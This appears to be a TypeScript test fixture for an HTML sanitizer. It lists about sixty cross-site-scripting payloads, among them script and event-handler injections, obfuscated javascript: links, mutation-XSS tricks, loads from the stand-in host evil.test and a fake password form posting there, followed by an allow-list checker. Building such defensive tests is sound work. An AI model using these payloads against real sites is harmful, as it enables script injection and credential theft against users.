/** HTML that an attacker may write into an article, a different attack in each. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\u0000>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.png">',
  '<img src="//evil.test/pixel.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/api/v1/article-images/../profiles">',
  '<img srcset="https://evil.test/x 1x" src="">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a  href=<script>alert(1)</script>',
  '<a <svg onload=alert(1)><circle/></svg><a href="https://evil.test">x</a>',
  '<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a target="_blank" rel="opener" href="https://evil.test">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<style>*{background:url(https://evil.test/x)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1)><option>x</select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>x</body>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<<script>script>alert(1)<</script>/script>',
  '<p id="content" class="app-skip" name="x">x</p>',
  '<code class="language-js evil app-card">x</code>',
  '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1) colspan="2&quot; onclick=&quot;alert(1)">x</td></tr></table>',
  '<xmp><script>alert(1)</script></xmp>',
  '<p><title><img src=x onerror=alert(1)></title></p>',
  `${'<ul><li>'.repeat(2_000)}x`,
];

const TAGS = new Set(
  'h2 h3 h4 p ul ol li a strong b em i u s code pre blockquote hr br img table thead tbody tr th td'.split(' '),
);
const SAFE: Readonly<Record<string, RegExp>> = {
  // Other schemes are refused, and so is an address that a browser takes for one of another host.
  href: /^(https?:\/\/|mailto:|tel:|\/(?![/\\])|[#?]|[\w-]+(?:[/?#]|$))/i,
  src: /^\/api\/v1\/article-images\/[A-Za-z0-9_-]{32}$/,
  alt: /^/,
  colspan: /^/,
  rowspan: /^/,
  start: /^/,
  class: /^(language-[a-z]+)?$/,
};

const decoded = (value: string) =>
  value.replace(/&(amp|lt|gt|quot);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"' })[name]!);

/**
 * Lists the parts of some HTML that are not on the short list of harmless ones. It has rules of its own, not the
 * cleaner's.
 */
export function harmIn(html: string): string[] {
  const harm: string[] = [];
  const rest = html.replace(
    /<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*\/?>/g,
    (_, tag: string, attributes: string) => {
      if (!TAGS.has(tag)) harm.push(`<${tag}>`);
      for (const [, name, value] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g))
        if (!SAFE[name!]?.test(decoded(value!))) harm.push(`${tag} ${name}=${value}`);
      return '';
    },
  );
  if (/[<>]/.test(rest)) harm.push(`left over: ${rest.slice(0, 80)}`);
  return harm;
}
